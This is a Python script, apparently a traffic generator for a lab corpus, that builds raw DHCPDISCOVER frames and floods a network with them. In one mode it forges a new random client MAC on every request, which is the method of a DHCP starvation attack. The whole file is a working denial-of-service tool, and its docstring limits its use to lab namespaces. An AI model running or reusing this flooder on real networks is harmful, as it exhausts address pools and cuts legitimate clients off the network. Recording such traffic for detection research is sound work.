"""DHCP DISCOVER floods on a raw AF_PACKET socket, as starvation and DoS
tools send them.

dhcp_flood.py IFACE MY_MAC COUNT INTERVAL MODE

Sends COUNT DHCPDISCOVERs, INTERVAL seconds apart, broadcast from 0.0.0.0
port 68 to 255.255.255.255 port 67, each with a new transaction id, from
the Ethernet address MY_MAC. MODE says for which client hardware address
(chaddr):
  same     MY_MAC every time: one client asking over and over (a broken or
           malicious client flooding the server)
  forged   a new random locally administered MAC each time: a starvation
           tool working from its own MAC
Used by record-corpus.sh in its lab namespaces only.
"""
import os
import socket
import struct
import sys
import time


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def discover(src_mac, chaddr, xid):
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 1, 1, 6, 0, xid, 0, 0x8000,
                        b"\0" * 4, b"\0" * 4, b"\0" * 4, b"\0" * 4, chaddr, b"", b"")
    options = b"\x63\x82\x53\x63" + b"\x35\x01\x01" + b"\x37\x03\x01\x03\x06" + b"\xff"
    payload = bootp + options + b"\0" * (300 - len(bootp) - len(options))
    udp = struct.pack("!HHHH", 68, 67, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0x10, 20 + len(udp), 0, 0, 128, 17, 0,
                     b"\0" * 4, b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return b"\xff" * 6 + src_mac + b"\x08\x00" + ip + udp


def main(argv):
    if len(argv) != 5 or argv[4] not in ("same", "forged"):
        sys.exit(__doc__)
    iface, mine, count, interval, mode = argv[0], mac(argv[1]), int(argv[2]), float(argv[3]), argv[4]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    start = time.monotonic()
    for i in range(count):
        chaddr = mine
        if mode == "forged":
            chaddr = bytes([0x02]) + os.urandom(5)
        s.send(discover(mine, chaddr, struct.unpack("!I", os.urandom(4))[0]))
        # Paced on the clock, not on sleeps: a slow machine does not
        # stretch the flood.
        delay = start + (i + 1) * interval - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print("sent %d discovers in %.1f s" % (count, time.monotonic() - start))


if __name__ == "__main__":
    main(sys.argv[1:])
